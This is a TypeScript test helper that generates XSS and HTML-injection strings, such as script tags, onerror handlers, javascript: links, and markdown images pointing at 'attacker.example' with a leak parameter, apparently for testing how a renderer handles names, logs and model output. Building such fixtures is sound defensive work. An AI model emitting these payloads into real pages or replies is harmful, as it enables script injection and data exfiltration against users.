const run = "document.title='ran'"

/** HTML and script as they stand in names, tags, log lines and what a model says. */
export function hostileTexts(count: number): string[] {
  const seeds = [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}">`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<a href="javascript:${run}">x</a>`,
    `[x](javascript:${run})`,
    `[x](data:text/html,<script>${run}</script>)`,
    `![x](http://127.0.0.1:9/x.png)`,
    `![x](https://attacker.example/?leak=1 "t")`,
    `<style>@import "http://127.0.0.1:9/x.css"</style>`,
    `<link rel=stylesheet href=http://127.0.0.1:9/x.css>`,
    `<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">`,
    `<form action=http://127.0.0.1:9/><button>x</button></form>`,
    `<base href=http://127.0.0.1:9/>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `"><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `<https://attacker.example/@127.0.0.1>`,
    `[https://aws.amazon.com](https://attacker.example/)`,
    `[x](https://aws.amazon.com@attacker.example/)`,
    `&lt;img src=x onerror=${run}&gt;`,
    `<details open ontoggle="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<object data="javascript:${run}"></object>`,
    `<img src="x" srcset="http://127.0.0.1:9/y 2x">`,
    `{{constructor.constructor("${run}")()}}`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `[x]: javascript:${run}`,
    `\u202egpj.exe<img src=x onerror=${run}>`,
    `<body onload=${run}>`,
  ]
  const around: ((text: string) => string)[] = [
    (text) => text,
    (text) => `**${text}**`,
    (text) => `- ${text}`,
    (text) => `> ${text}`,
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `# ${text}`,
    (text) => text.replace(/[a-z](?=[^a-z])/i, (letter) => letter.toUpperCase()),
  ]
  return around.flatMap((wrap) => seeds.map(wrap)).slice(0, count)
}
